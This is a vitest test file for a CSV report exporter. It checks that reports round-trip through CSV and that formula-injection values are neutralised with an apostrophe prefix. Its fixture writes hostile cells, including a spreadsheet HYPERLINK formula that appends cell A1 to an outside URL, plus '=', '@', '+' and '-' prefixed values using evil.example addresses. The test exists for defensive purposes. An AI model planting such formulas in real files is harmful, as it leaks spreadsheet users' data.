import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { stripNeutraliser, toCsv } from '../../src/core/csv';
import { readCsvRows } from '../../src/core/ingest/csv';
import { reportIds } from '../../src/shared/reports';
import type { Cell } from '../../src/core/reports/query';
import { samplePaths } from '../../src/core/sampleSet';
import { loadEngine } from '../../src/store/sqlite';
import { UsageStore } from '../../src/store/usageStore';

const ctx = { now: Date.UTC(2026, 10, 15, 12), timeZone: 'Europe/Berlin', weekStartsOn: 1 as const };
let store: UsageStore;
const dir = mkdtempSync(join(tmpdir(), 'roundtrip-'));

beforeAll(async () => {
  store = UsageStore.open(await loadEngine(join(process.cwd(), 'node_modules/sql.js/dist/sql-wasm.wasm')));
  for (const file of samplePaths(join(process.cwd(), 'media/sample'))) await store.importFile(file.path, { kind: file.kind });
  const hostile = join(dir, 'hostile.csv');
  writeFileSync(
    hostile,
    'timestamp,agent_id,agent_name,user_email,input_tokens\n' +
      '2026-11-10T10:00:00Z,hostile_x,"=HYPERLINK(""http://x?""&A1,""c"")",=cmd@evil.example,5\n' +
      '2026-11-10T11:00:00Z,hostile_y,"@line one\r\n+line two",-me@evil.example,7\n',
  );
  await store.importFile(hostile, {});
});

afterAll(() => {
  store.close();
  rmSync(dir, { recursive: true, force: true });
});

async function readBack(text: string): Promise<string[][]> {
  const file = join(dir, 'export.csv');
  writeFileSync(file, text);
  const rows: string[][] = [];
  for await (const batch of readCsvRows(file)) for (const row of batch) if ('cells' in row) rows.push(row.cells);
  return rows;
}

const asText = (cell: Cell) => (cell === null ? '' : String(cell));

describe('X8 an exported report re-imports into identical values', () => {
  it.each(reportIds)('%s', async (report) => {
    const result = await store.report({ report, timeframe: 'last-30-days' }, ctx);
    expect(result.rows.length).toBeGreaterThan(0);
    const [header, ...rows] = await readBack(toCsv(result.columns, result.rows));
    expect(header).toEqual(result.columns);
    expect(rows).toHaveLength(result.rows.length);
    expect(rows.map((row) => row.map(stripNeutraliser))).toEqual(result.rows.map((row) => row.map(asText)));
  });

  it('hostile names come back neutralised in the file and identical after removing the prefix', async () => {
    const result = await store.report({ report: 'agents', timeframe: { day: '2026-11-10' }, search: 'hostile' }, { ...ctx, timeZone: 'UTC' });
    const text = toCsv(result.columns, result.rows);
    const [, ...rows] = await readBack(text);
    const names = rows.map((row) => row[0]!);
    expect(names.every((name) => name.startsWith("'"))).toBe(true);
    expect(names.map(stripNeutraliser).sort()).toEqual(['=HYPERLINK("http://x?"&A1,"c")', '@line one\r\n+line two'].sort());
  });
});
